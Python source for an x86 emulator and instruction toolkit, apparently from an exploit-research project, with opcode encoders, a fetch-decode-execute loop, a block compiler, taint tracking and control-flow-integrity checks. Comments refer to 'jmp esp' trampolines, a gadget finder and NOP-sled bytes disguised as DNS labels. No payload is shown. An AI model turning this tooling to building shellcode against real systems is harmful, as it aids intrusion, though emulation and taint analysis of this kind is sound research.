    """MOV [base], src — register-indirect store, no displacement."""
    rm = _reg(base)
    if rm in (4, 5):
        raise ValueError(f"cannot encode [{base}] without SIB/disp")
    return bytes([0x89, _modrm(0, _reg(src), rm)])


def mov_reg_mem(dst: str, base: str) -> bytes:
    """MOV dst, [base] — register-indirect load, no displacement."""
    rm = _reg(base)
    if rm in (4, 5):
        raise ValueError(f"cannot encode [{base}] without SIB/disp")
    return bytes([0x8B, _modrm(0, _reg(dst), rm)])


def call_reg(name: str) -> bytes:
    """CALL r32 (FF /2) — indirect call through a register."""
    return bytes([0xFF, _modrm(3, 2, _reg(name))])


def jmp_reg(name: str) -> bytes:
    """JMP r32 (FF /4) — e.g. the classic ``jmp esp`` trampoline."""
    return bytes([0xFF, _modrm(3, 4, _reg(name))])


def sub_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x29, _modrm(3, _reg(src), _reg(dst))])


def cmp_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x39, _modrm(3, _reg(src), _reg(dst))])


def test_reg_reg(dst: str, src: str) -> bytes:
    return bytes([0x85, _modrm(3, _reg(src), _reg(dst))])


def add_reg_imm8(name: str, value: int) -> bytes:
    """ADD r/m32, imm8 (83 /0) — e.g. the ``add esp, 0xC`` epilogue step."""
    return bytes([0x83, _modrm(3, 0, _reg(name)), value & 0xFF])


def sub_reg_imm8(name: str, value: int) -> bytes:
    return bytes([0x83, _modrm(3, 5, _reg(name)), value & 0xFF])


def inc_reg(name: str) -> bytes:
    return bytes([0x40 + _reg(name)])


def dec_reg(name: str) -> bytes:
    return bytes([0x48 + _reg(name)])


def ret() -> bytes:
    return b"\xc3"


def ret_imm16(value: int) -> bytes:
    return b"\xc2" + struct.pack("<H", value & 0xFFFF)


def leave() -> bytes:
    return b"\xc9"


def cdq() -> bytes:
    return b"\x99"


def int_(vector: int) -> bytes:
    return bytes([0xCD, vector & 0xFF])


def int3() -> bytes:
    return b"\xcc"


def hlt() -> bytes:
    return b"\xf4"


def call_rel32(origin: int, target: int) -> bytes:
    """CALL rel32 where ``origin`` is the address of the call itself."""
    rel = (target - (origin + 5)) & 0xFFFFFFFF
    return b"\xe8" + struct.pack("<I", rel)


def jmp_rel32(origin: int, target: int) -> bytes:
    rel = (target - (origin + 5)) & 0xFFFFFFFF
    return b"\xe9" + struct.pack("<I", rel)


def jmp_rel8(origin: int, target: int) -> bytes:
    rel = target - (origin + 2)
    if not -128 <= rel <= 127:
        raise ValueError(f"jmp rel8 target out of range: {rel}")
    return bytes([0xEB, rel & 0xFF])


def jz_rel8(origin: int, target: int) -> bytes:
    rel = target - (origin + 2)
    if not -128 <= rel <= 127:
        raise ValueError(f"jz rel8 target out of range: {rel}")
    return bytes([0x74, rel & 0xFF])


def jnz_rel8(origin: int, target: int) -> bytes:
    rel = target - (origin + 2)
    if not -128 <= rel <= 127:
        raise ValueError(f"jnz rel8 target out of range: {rel}")
    return bytes([0x75, rel & 0xFF])
