"""Execution backend for the 32-bit x86 subset."""

from __future__ import annotations

from ..emulator import Emulator
from ..events import IllegalInstruction
from ..isa import Instruction
from ..registers import X86_REG8, X86_REGISTERS
from ..syscalls import dispatch_x86
from .disasm import decode

ZF_BIT = 1 << 6
MASK32 = 0xFFFFFFFF
_NOT_ZF = MASK32 ^ ZF_BIT

#: Longest encodable instruction in our subset.
MAX_INSN_LEN = 5


class X86Emulator(Emulator):
    """Fetch/decode/execute loop over the shared address space."""

    arch = "x86"

    def _fetch_window(self, address: int) -> bytes:
        """Fetch up to MAX_INSN_LEN bytes, spanning contiguous mapped segments.

        An instruction that straddles two back-to-back executable segments
        must decode; the window only stops early at a genuine mapping gap
        (where the truncated decode then faults like the hardware would).
        """
        memory = self.process.memory
        return memory.fetch(address, memory.contiguous_span(address, MAX_INSN_LEN))

    def _set_zf(self, result: int) -> None:
        flags = self.process.registers["eflags"]
        if result & MASK32 == 0:
            flags |= ZF_BIT
        else:
            flags &= ~ZF_BIT
        self.process.registers["eflags"] = flags

    def _zf(self) -> bool:
        return bool(self.process.registers["eflags"] & ZF_BIT)

    def _write_reg8(self, name: str, value: int) -> None:
        # Hardware encoding: al cl dl bl are the low bytes of eax ecx edx
        # ebx, and ah ch dh bh the high bytes of the *same four* parents.
        index = X86_REG8.index(name)
        parent = X86_REGISTERS[index & 3]
        shift = 8 if index >= 4 else 0
        current = self.process.registers[parent]
        mask = ~(0xFF << shift) & MASK32
        self.process.registers[parent] = (current & mask) | ((value & 0xFF) << shift)

    def step(self) -> Instruction:
        process = self.process
        address = process.pc
        cache = process.decode_cache
        insn = cache.lookup(address)
        if insn is None:
            insn = decode(self._fetch_window(address), address, strict=True)
            cache.record_decode(insn)
        self._execute(insn)
        return insn

    def _execute(self, insn: Instruction) -> None:
        process = self.process
        regs = process.registers
        mnemonic = insn.mnemonic
        next_pc = insn.end

        if mnemonic in ("nop", "daa", "das", "aaa", "aas"):
            pass
        elif mnemonic == "push":
            (operand,) = insn.operands
            value = regs[operand] if isinstance(operand, str) else operand
            process.push_u32(value)
        elif mnemonic == "pop":
            regs[insn.operands[0]] = process.pop_u32()
        elif mnemonic == "mov":
            dst, src = insn.operands
            regs[dst] = regs[src] if isinstance(src, str) else src
        elif mnemonic == "mov8":
            dst, value = insn.operands
            self._write_reg8(dst, value)
        elif mnemonic == "xor":
            dst, src = insn.operands
            result = regs[dst] ^ regs[src]
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "add":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            result = (regs[dst] + value) & MASK32
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "sub":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            result = (regs[dst] - value) & MASK32
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "cmp":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            self._set_zf((regs[dst] - value) & MASK32)
        elif mnemonic == "test":
            dst, src = insn.operands
            self._set_zf(regs[dst] & regs[src])
        elif mnemonic == "and":
            dst, src = insn.operands
            regs[dst] = regs[dst] & regs[src]
            self._set_zf(regs[dst])
        elif mnemonic == "or":
            dst, src = insn.operands
            regs[dst] = regs[dst] | regs[src]
            self._set_zf(regs[dst])
        elif mnemonic == "not":
            name = insn.operands[0]
            regs[name] = ~regs[name] & MASK32
        elif mnemonic == "neg":
            name = insn.operands[0]
            regs[name] = (-regs[name]) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "shl":
            name, count = insn.operands
            regs[name] = (regs[name] << count) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "shr":
            name, count = insn.operands
            regs[name] = regs[name] >> count
            self._set_zf(regs[name])
        elif mnemonic == "xchg":
            left, right = insn.operands
            regs[left], regs[right] = regs[right], regs[left]
        elif mnemonic == "store":
            base, src = insn.operands
            process.memory.write_u32(regs[base], regs[src])
        elif mnemonic == "load":
            dst, base = insn.operands
            regs[dst] = process.memory.read_u32(regs[base])
        elif mnemonic == "inc":
            name = insn.operands[0]
            regs[name] = (regs[name] + 1) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "dec":
            name = insn.operands[0]
            regs[name] = (regs[name] - 1) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "cdq":
            regs["edx"] = 0xFFFFFFFF if regs["eax"] & 0x80000000 else 0
        elif mnemonic == "leave":
            process.sp = regs["ebp"]
            regs["ebp"] = process.pop_u32()
        elif mnemonic == "ret":
            target = process.pop_u32()
            if process.cfi is not None:
                process.cfi.check_return(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "retn":
            target = process.pop_u32()
            process.sp = (process.sp + insn.operands[0]) & MASK32
            if process.cfi is not None:
                process.cfi.check_return(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "call":
            (operand,) = insn.operands
            indirect = isinstance(operand, str)
            target = regs[operand] if indirect else operand
            process.push_u32(next_pc)
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
                if indirect:
                    process.cfi.check_indirect(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "jmp":
            (operand,) = insn.operands
            if isinstance(operand, str):
                target = regs[operand]
                if process.cfi is not None:
                    process.cfi.check_indirect(process, insn.address, target)
                process.pc = target
            else:
                process.pc = operand
            return
        elif mnemonic == "jz":
            process.pc = insn.operands[0] if self._zf() else next_pc
            return
        elif mnemonic == "jnz":
            process.pc = next_pc if self._zf() else insn.operands[0]
            return
        elif mnemonic == "int":
            # Commit the post-instruction pc before the syscall may stop us.
            process.pc = next_pc
            if insn.operands[0] != 0x80:
                raise IllegalInstruction(insn.address, insn.raw, f"int {insn.operands[0]:#x}")
            dispatch_x86(process)
            return
        elif mnemonic == "int3":
            raise IllegalInstruction(insn.address, insn.raw, "breakpoint trap (SIGTRAP)")
        elif mnemonic == "hlt":
            raise IllegalInstruction(insn.address, insn.raw, "privileged instruction in user mode")
        else:  # pragma: no cover - decoder and executor kept in sync
            raise IllegalInstruction(insn.address, insn.raw, f"unimplemented mnemonic {mnemonic}")

        process.pc = next_pc


# -- superblock compiler backend (see repro.cpu.blocks) --------------------------
#
# Classification tables and the per-instruction closure compiler.  Every
# compiled op reproduces ``_execute``'s semantics byte for byte, including the
# order of side effects around a possible MemoryFault (sp committed before a
# push's store, after a pop's load) and the pc commit at the end of each
# instruction, so a fault or mid-block bail leaves exactly the architectural
# state the interpreter would.

#: Instructions that end a block: control transfers, traps, syscalls.
_TERMINAL = frozenset((
    "ret", "retn", "call", "jmp", "jz", "jnz", "int", "int3", "hlt"))

#: Instructions whose only flag effect is the emulated ZF write.
_WRITES_FLAGS = frozenset((
    "xor", "add", "sub", "cmp", "test", "and", "or", "neg", "shl", "shr",
    "inc", "dec"))

#: Instructions that can raise MemoryFault (every memory toucher).
_CAN_FAULT = frozenset(("push", "pop", "store", "load", "leave"))

#: Instructions that write guest memory (need the self-modification guard).
_WRITES_MEMORY = frozenset(("push", "store"))


def decode_block_insn(process, address: int) -> Instruction:
    """The front half of :meth:`X86Emulator.step`: cached decode at address."""
    cache = process.decode_cache
    insn = cache.lookup(address)
    if insn is None:
        memory = process.memory
        window = memory.fetch(address, memory.contiguous_span(address, MAX_INSN_LEN))
        insn = decode(window, address, strict=True)
        cache.record_decode(insn)
    return insn


def block_terminal(insn: Instruction) -> bool:
    return insn.mnemonic in _TERMINAL


def block_writes_flags(insn: Instruction) -> bool:
    return insn.mnemonic in _WRITES_FLAGS


def block_can_fault(insn: Instruction) -> bool:
    return insn.mnemonic in _CAN_FAULT


def block_writes_memory(insn: Instruction) -> bool:
    return insn.mnemonic in _WRITES_MEMORY


def compile_block_op(insn: Instruction, memory, *, flags_needed: bool, guard):
    """Compile one fall-through instruction into ``op(process, values)``.

    ``values`` is the raw register dict (the decoder only emits canonical
    names, so no alias resolution is needed); all constants are pre-masked
    here so the hot closure does no compile-time work.  ``flags_needed``
    False elides the ZF computation (proven dead by the liveness pass);
    ``guard`` is the block's post-store self-modification check.
    """
    mnemonic = insn.mnemonic
    end = insn.end & MASK32
    operands = insn.operands

    if mnemonic in ("nop", "daa", "das", "aaa", "aas"):
        def op(process, v):
            v["eip"] = end

    elif mnemonic == "push":
        (operand,) = operands
        write_u32 = memory.write_u32
        if isinstance(operand, str):
            def op(process, v):
                value = v[operand]
                sp = (v["esp"] - 4) & MASK32
                v["esp"] = sp
                write_u32(sp, value)
                v["eip"] = end
                guard()
        else:
            imm = operand & MASK32

            def op(process, v):
                sp = (v["esp"] - 4) & MASK32
                v["esp"] = sp
                write_u32(sp, imm)
                v["eip"] = end
                guard()

    elif mnemonic == "pop":
        dst = operands[0]
        read_u32 = memory.read_u32

        def op(process, v):
            value = read_u32(v["esp"])
            v["esp"] = (v["esp"] + 4) & MASK32
            v[dst] = value
            v["eip"] = end

    elif mnemonic == "mov":
        dst, src = operands
        if isinstance(src, str):
            def op(process, v):
                v[dst] = v[src]
                v["eip"] = end
        else:
            imm = src & MASK32

            def op(process, v):
                v[dst] = imm
                v["eip"] = end

    elif mnemonic == "mov8":
        dst, value = operands
        index = X86_REG8.index(dst)
        parent = X86_REGISTERS[index & 3]
        shift = 8 if index >= 4 else 0
        keep = ~(0xFF << shift) & MASK32
        insert = (value & 0xFF) << shift

        def op(process, v):
            v[parent] = (v[parent] & keep) | insert
            v["eip"] = end

    elif mnemonic == "xor":
        dst, src = operands

        def op(process, v):
            result = v[dst] ^ v[src]
            v[dst] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic in ("and", "or"):
        dst, src = operands
        conjunction = mnemonic == "and"

        def op(process, v):
            if conjunction:
                result = v[dst] & v[src]
            else:
                result = v[dst] | v[src]
            v[dst] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic == "test":
        dst, src = operands

        def op(process, v):
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = ((flags | ZF_BIT) if v[dst] & v[src] == 0
                               else (flags & _NOT_ZF))
            v["eip"] = end

    elif mnemonic in ("add", "sub", "cmp"):
        dst, src = operands
        src_reg = src if isinstance(src, str) else None
        imm = 0 if src_reg is not None else src & MASK32
        negate = mnemonic in ("sub", "cmp")
        writes_dst = mnemonic != "cmp"

        def op(process, v):
            value = v[src_reg] if src_reg is not None else imm
            if negate:
                result = (v[dst] - value) & MASK32
            else:
                result = (v[dst] + value) & MASK32
            if writes_dst:
                v[dst] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic == "not":
        name = operands[0]

        def op(process, v):
            v[name] = ~v[name] & MASK32
            v["eip"] = end

    elif mnemonic == "neg":
        name = operands[0]

        def op(process, v):
            result = (-v[name]) & MASK32
            v[name] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic in ("shl", "shr"):
        name, count = operands
        left = mnemonic == "shl"

        def op(process, v):
            if left:
                result = (v[name] << count) & MASK32
            else:
                result = v[name] >> count
            v[name] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic == "xchg":
        left_name, right_name = operands

        def op(process, v):
            v[left_name], v[right_name] = v[right_name], v[left_name]
            v["eip"] = end

    elif mnemonic == "store":
        base, src = operands
        write_u32 = memory.write_u32

        def op(process, v):
            write_u32(v[base], v[src])
            v["eip"] = end
            guard()

    elif mnemonic == "load":
        dst, base = operands
        read_u32 = memory.read_u32

        def op(process, v):
            v[dst] = read_u32(v[base])
            v["eip"] = end

    elif mnemonic in ("inc", "dec"):
        name = operands[0]
        delta = 1 if mnemonic == "inc" else -1

        def op(process, v):
            result = (v[name] + delta) & MASK32
            v[name] = result
            if flags_needed:
                flags = v["eflags"]
                v["eflags"] = (flags | ZF_BIT) if result == 0 else (flags & _NOT_ZF)
            v["eip"] = end

    elif mnemonic == "cdq":
        def op(process, v):
            v["edx"] = 0xFFFFFFFF if v["eax"] & 0x80000000 else 0
            v["eip"] = end

    elif mnemonic == "leave":
        # Interpreter ordering: esp takes ebp *before* the pop's load, so a
        # fault on the load leaves esp already moved (and eip on this insn).
        read_u32 = memory.read_u32

        def op(process, v):
            v["esp"] = v["ebp"]
            value = read_u32(v["esp"])
            v["esp"] = (v["esp"] + 4) & MASK32
            v["ebp"] = value
            v["eip"] = end

    else:  # pragma: no cover - classification and compiler kept in sync
        raise IllegalInstruction(insn.address, insn.raw,
                                 f"uncompilable mnemonic {mnemonic}")

    return op


# -- taint propagation (see repro.obs.taint) -------------------------------------

def propagate_taint(engine, process, insn, prev) -> None:
    """Label transfer function mirroring ``_execute``'s data flow.

    Called by :meth:`TaintEngine.step` *after* the instruction retired;
    ``prev`` is the pre-step register file, which is where every memory
    operand address (sp for push/pop/ret, the base register for
    load/store) must come from.  Explicit flows only: flags are not
    shadowed, so conditional branches never propagate labels — the trust
    boundary is documented in docs/ARCHITECTURE.md.

    Memory writes already passed through ``AddressSpace.write`` untainted
    (clearing the covered shadow bytes), so this function only needs to
    *re-seed* stores whose source register carries labels.
    """
    shadow = engine.shadow
    labels_of = engine.reg_labels
    set_reg = engine.set_reg
    mnemonic = insn.mnemonic
    operands = insn.operands

    if mnemonic == "push":
        (operand,) = operands
        if isinstance(operand, str):
            labels = labels_of(operand)
            if labels:
                shadow.set_range((prev["esp"] - 4) & MASK32, (labels,) * 4)
    elif mnemonic == "pop":
        set_reg(operands[0], shadow.union(prev["esp"], 4))
    elif mnemonic == "mov":
        dst, src = operands
        set_reg(dst, labels_of(src) if isinstance(src, str) else frozenset())
    elif mnemonic == "xor":
        dst, src = operands
        if dst == src:
            set_reg(dst, frozenset())  # the canonical zeroing idiom
        else:
            set_reg(dst, labels_of(dst) | labels_of(src))
    elif mnemonic in ("add", "sub", "and", "or"):
        dst, src = operands
        if isinstance(src, str):
            set_reg(dst, labels_of(dst) | labels_of(src))
    elif mnemonic == "xchg":
        left, right = operands
        left_labels, right_labels = labels_of(left), labels_of(right)
        set_reg(left, right_labels)
        set_reg(right, left_labels)
    elif mnemonic == "store":
        base, src = operands
        labels = labels_of(src)
        if labels:
            shadow.set_range(prev[base] & MASK32, (labels,) * 4)
    elif mnemonic == "load":
        dst, base = operands
        set_reg(dst, shadow.union(prev[base] & MASK32, 4))
    elif mnemonic == "cdq":
        set_reg("edx", labels_of("eax"))  # sign extension derives from eax
    elif mnemonic == "leave":
        set_reg("esp", labels_of("ebp"))
        set_reg("ebp", shadow.union(prev["ebp"] & MASK32, 4))
    elif mnemonic in ("ret", "retn"):
        labels = shadow.union(prev["esp"], 4)
        set_reg("eip", labels)
        engine.note_pc_write(labels, pc=process.pc, via=mnemonic,
                             address=prev["esp"] & MASK32)
        return
    elif mnemonic == "call":
        (operand,) = operands
        if isinstance(operand, str):
            labels = labels_of(operand)
            set_reg("eip", labels)
            engine.note_pc_write(labels, pc=process.pc,
                                 via=f"call {operand}")
        else:
            set_reg("eip", frozenset())
        return
    elif mnemonic == "jmp":
        (operand,) = operands
        if isinstance(operand, str):
            labels = labels_of(operand)
            set_reg("eip", labels)
            engine.note_pc_write(labels, pc=process.pc,
                                 via=f"jmp {operand}")
        else:
            set_reg("eip", frozenset())
        return
    elif mnemonic == "int":
        # The syscall layer consumed registers and wrote a result (or
        # spawned/stopped); its eax result is host-generated, not wire data.
        set_reg("eax", frozenset())
    # Remaining mnemonics (mov8 immediate insert, not/neg, shl/shr by
    # immediate, inc/dec, cmp/test, nop family, jz/jnz) either keep their
    # destination's labels or only write flags/pc from immediates.
    set_reg("eip", frozenset())
