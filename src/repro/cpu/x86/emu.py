"""Execution backend for the 32-bit x86 subset."""

from __future__ import annotations

from ..emulator import Emulator
from ..events import IllegalInstruction
from ..isa import Instruction
from ..registers import X86_REG8, X86_REGISTERS
from ..syscalls import dispatch_x86
from .disasm import decode

ZF_BIT = 1 << 6
MASK32 = 0xFFFFFFFF

#: Longest encodable instruction in our subset.
MAX_INSN_LEN = 5


class X86Emulator(Emulator):
    """Fetch/decode/execute loop over the shared address space."""

    arch = "x86"

    def _fetch_window(self, address: int) -> bytes:
        """Fetch up to MAX_INSN_LEN bytes, spanning contiguous mapped segments.

        An instruction that straddles two back-to-back executable segments
        must decode; the window only stops early at a genuine mapping gap
        (where the truncated decode then faults like the hardware would).
        """
        memory = self.process.memory
        return memory.fetch(address, memory.contiguous_span(address, MAX_INSN_LEN))

    def _set_zf(self, result: int) -> None:
        flags = self.process.registers["eflags"]
        if result & MASK32 == 0:
            flags |= ZF_BIT
        else:
            flags &= ~ZF_BIT
        self.process.registers["eflags"] = flags

    def _zf(self) -> bool:
        return bool(self.process.registers["eflags"] & ZF_BIT)

    def _write_reg8(self, name: str, value: int) -> None:
        # Hardware encoding: al cl dl bl are the low bytes of eax ecx edx
        # ebx, and ah ch dh bh the high bytes of the *same four* parents.
        index = X86_REG8.index(name)
        parent = X86_REGISTERS[index & 3]
        shift = 8 if index >= 4 else 0
        current = self.process.registers[parent]
        mask = ~(0xFF << shift) & MASK32
        self.process.registers[parent] = (current & mask) | ((value & 0xFF) << shift)

    def step(self) -> None:
        process = self.process
        address = process.pc
        cache = process.decode_cache
        insn = cache.lookup(address)
        if insn is None:
            insn = decode(self._fetch_window(address), address, strict=True)
            cache.record_decode(insn)
        self._execute(insn)

    def _execute(self, insn: Instruction) -> None:
        process = self.process
        regs = process.registers
        mnemonic = insn.mnemonic
        next_pc = insn.end

        if mnemonic in ("nop", "daa", "das", "aaa", "aas"):
            pass
        elif mnemonic == "push":
            (operand,) = insn.operands
            value = regs[operand] if isinstance(operand, str) else operand
            process.push_u32(value)
        elif mnemonic == "pop":
            regs[insn.operands[0]] = process.pop_u32()
        elif mnemonic == "mov":
            dst, src = insn.operands
            regs[dst] = regs[src] if isinstance(src, str) else src
        elif mnemonic == "mov8":
            dst, value = insn.operands
            self._write_reg8(dst, value)
        elif mnemonic == "xor":
            dst, src = insn.operands
            result = regs[dst] ^ regs[src]
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "add":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            result = (regs[dst] + value) & MASK32
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "sub":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            result = (regs[dst] - value) & MASK32
            regs[dst] = result
            self._set_zf(result)
        elif mnemonic == "cmp":
            dst, src = insn.operands
            value = regs[src] if isinstance(src, str) else src
            self._set_zf((regs[dst] - value) & MASK32)
        elif mnemonic == "test":
            dst, src = insn.operands
            self._set_zf(regs[dst] & regs[src])
        elif mnemonic == "and":
            dst, src = insn.operands
            regs[dst] = regs[dst] & regs[src]
            self._set_zf(regs[dst])
        elif mnemonic == "or":
            dst, src = insn.operands
            regs[dst] = regs[dst] | regs[src]
            self._set_zf(regs[dst])
        elif mnemonic == "not":
            name = insn.operands[0]
            regs[name] = ~regs[name] & MASK32
        elif mnemonic == "neg":
            name = insn.operands[0]
            regs[name] = (-regs[name]) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "shl":
            name, count = insn.operands
            regs[name] = (regs[name] << count) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "shr":
            name, count = insn.operands
            regs[name] = regs[name] >> count
            self._set_zf(regs[name])
        elif mnemonic == "xchg":
            left, right = insn.operands
            regs[left], regs[right] = regs[right], regs[left]
        elif mnemonic == "store":
            base, src = insn.operands
            process.memory.write_u32(regs[base], regs[src])
        elif mnemonic == "load":
            dst, base = insn.operands
            regs[dst] = process.memory.read_u32(regs[base])
        elif mnemonic == "inc":
            name = insn.operands[0]
            regs[name] = (regs[name] + 1) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "dec":
            name = insn.operands[0]
            regs[name] = (regs[name] - 1) & MASK32
            self._set_zf(regs[name])
        elif mnemonic == "cdq":
            regs["edx"] = 0xFFFFFFFF if regs["eax"] & 0x80000000 else 0
        elif mnemonic == "leave":
            process.sp = regs["ebp"]
            regs["ebp"] = process.pop_u32()
        elif mnemonic == "ret":
            target = process.pop_u32()
            if process.cfi is not None:
                process.cfi.check_return(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "retn":
            target = process.pop_u32()
            process.sp = (process.sp + insn.operands[0]) & MASK32
            if process.cfi is not None:
                process.cfi.check_return(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "call":
            (operand,) = insn.operands
            indirect = isinstance(operand, str)
            target = regs[operand] if indirect else operand
            process.push_u32(next_pc)
            if process.cfi is not None:
                process.cfi.note_call(process, next_pc)
                if indirect:
                    process.cfi.check_indirect(process, insn.address, target)
            process.pc = target
            return
        elif mnemonic == "jmp":
            (operand,) = insn.operands
            if isinstance(operand, str):
                target = regs[operand]
                if process.cfi is not None:
                    process.cfi.check_indirect(process, insn.address, target)
                process.pc = target
            else:
                process.pc = operand
            return
        elif mnemonic == "jz":
            process.pc = insn.operands[0] if self._zf() else next_pc
            return
        elif mnemonic == "jnz":
            process.pc = next_pc if self._zf() else insn.operands[0]
            return
        elif mnemonic == "int":
            # Commit the post-instruction pc before the syscall may stop us.
            process.pc = next_pc
            if insn.operands[0] != 0x80:
                raise IllegalInstruction(insn.address, insn.raw, f"int {insn.operands[0]:#x}")
            dispatch_x86(process)
            return
        elif mnemonic == "int3":
            raise IllegalInstruction(insn.address, insn.raw, "breakpoint trap (SIGTRAP)")
        elif mnemonic == "hlt":
            raise IllegalInstruction(insn.address, insn.raw, "privileged instruction in user mode")
        else:  # pragma: no cover - decoder and executor kept in sync
            raise IllegalInstruction(insn.address, insn.raw, f"unimplemented mnemonic {mnemonic}")

        process.pc = next_pc
