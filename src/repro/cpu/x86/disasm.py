"""32-bit x86 decoder for the emulated subset.

Used both by the emulator (strict mode: unknown bytes raise
:class:`~repro.cpu.events.IllegalInstruction`, i.e. SIGILL) and by the
gadget finder (tolerant mode: unknown bytes decode to one-byte ``(bad)``
instructions so the linear sweep can continue).
"""

from __future__ import annotations

import struct
from typing import Optional

from ..events import IllegalInstruction
from ..isa import Instruction
from ..registers import X86_REG8, X86_REGISTERS


def _sign8(value: int) -> int:
    return value - 256 if value >= 128 else value


def _sign32(value: int) -> int:
    return value - 2**32 if value >= 2**31 else value


def _read_u32(data: bytes, offset: int) -> Optional[int]:
    if offset + 4 > len(data):
        return None
    return struct.unpack_from("<I", data, offset)[0]


def decode(data: bytes, address: int, offset: int = 0, *, strict: bool = True) -> Instruction:
    """Decode one instruction from ``data[offset:]`` located at ``address``.

    ``address`` is the virtual address of ``data[offset]`` (needed to resolve
    relative branch targets).
    """
    if offset >= len(data):
        raise IllegalInstruction(address, b"", "decode past end of buffer")

    opcode = data[offset]
    raw1 = data[offset : offset + 1]

    def bad(reason: str) -> Instruction:
        if strict:
            raise IllegalInstruction(address, raw1, reason)
        return Instruction(address, 1, "(bad)", (), raw1)

    def need(n: int) -> Optional[bytes]:
        chunk = data[offset : offset + n]
        return chunk if len(chunk) == n else None

    # -- XCHG eax, r32 (0x91-0x97; 0x90 is nop == xchg eax, eax) --------------
    if 0x91 <= opcode <= 0x97:
        return Instruction(address, 1, "xchg", ("eax", X86_REGISTERS[opcode - 0x90]), raw1)

    # -- single byte, no operands -------------------------------------------
    simple = {
        0x90: "nop",
        0xC3: "ret",
        0xC9: "leave",
        0x99: "cdq",
        0xCC: "int3",
        0xF4: "hlt",
        # Single-byte BCD-adjust instructions: effectively flag-only NOPs.
        # The label planner uses them as sled-safe DNS label-length bytes.
        0x27: "daa",
        0x2F: "das",
        0x37: "aaa",
        0x3F: "aas",
    }
    if opcode in simple:
        return Instruction(address, 1, simple[opcode], (), raw1)

    # -- single byte with encoded register -----------------------------------
    if 0x50 <= opcode <= 0x57:
        return Instruction(address, 1, "push", (X86_REGISTERS[opcode - 0x50],), raw1)
    if 0x58 <= opcode <= 0x5F:
        return Instruction(address, 1, "pop", (X86_REGISTERS[opcode - 0x58],), raw1)
    if 0x40 <= opcode <= 0x47:
        return Instruction(address, 1, "inc", (X86_REGISTERS[opcode - 0x40],), raw1)
    if 0x48 <= opcode <= 0x4F:
        return Instruction(address, 1, "dec", (X86_REGISTERS[opcode - 0x48],), raw1)

    # -- immediates ------------------------------------------------------------
    if opcode == 0x68:
        raw = need(5)
        if raw is None:
            return bad("truncated push imm32")
        return Instruction(address, 5, "push", (struct.unpack("<I", raw[1:])[0],), raw)
    if opcode == 0x6A:
        raw = need(2)
        if raw is None:
            return bad("truncated push imm8")
        return Instruction(address, 2, "push", (_sign8(raw[1]) & 0xFFFFFFFF,), raw)
    if 0xB8 <= opcode <= 0xBF:
        raw = need(5)
        if raw is None:
            return bad("truncated mov reg, imm32")
        value = struct.unpack("<I", raw[1:])[0]
        return Instruction(address, 5, "mov", (X86_REGISTERS[opcode - 0xB8], value), raw)
    if 0xB0 <= opcode <= 0xB7:
        raw = need(2)
        if raw is None:
            return bad("truncated mov r8, imm8")
        return Instruction(address, 2, "mov8", (X86_REG8[opcode - 0xB0], raw[1]), raw)
    if opcode == 0xC2:
        raw = need(3)
        if raw is None:
            return bad("truncated ret imm16")
        return Instruction(address, 3, "retn", (struct.unpack("<H", raw[1:])[0],), raw)
    if opcode == 0xCD:
        raw = need(2)
        if raw is None:
            return bad("truncated int imm8")
        return Instruction(address, 2, "int", (raw[1],), raw)
    if opcode == 0x3D:
        raw = need(5)
        if raw is None:
            return bad("truncated cmp eax, imm32")
        return Instruction(address, 5, "cmp", ("eax", struct.unpack("<I", raw[1:])[0]), raw)

    # -- ModR/M register-direct forms ------------------------------------------
    two_op = {0x89: "mov_rm_r", 0x8B: "mov_r_rm", 0x31: "xor", 0x01: "add", 0x29: "sub",
              0x39: "cmp", 0x85: "test", 0x21: "and", 0x09: "or"}
    if opcode in two_op:
        raw = need(2)
        if raw is None:
            return bad("truncated modrm instruction")
        mod, reg, rm = raw[1] >> 6, (raw[1] >> 3) & 7, raw[1] & 7
        kind = two_op[opcode]
        if mod == 0 and kind in ("mov_rm_r", "mov_r_rm") and rm not in (4, 5):
            # Register-indirect MOV without displacement: [reg] forms.
            reg_name, base_name = X86_REGISTERS[reg], X86_REGISTERS[rm]
            if kind == "mov_rm_r":
                return Instruction(address, 2, "store", (base_name, reg_name), raw)
            return Instruction(address, 2, "load", (reg_name, base_name), raw)
        if mod != 3:
            return bad("memory-form ModR/M not supported by this core")
        reg_name, rm_name = X86_REGISTERS[reg], X86_REGISTERS[rm]
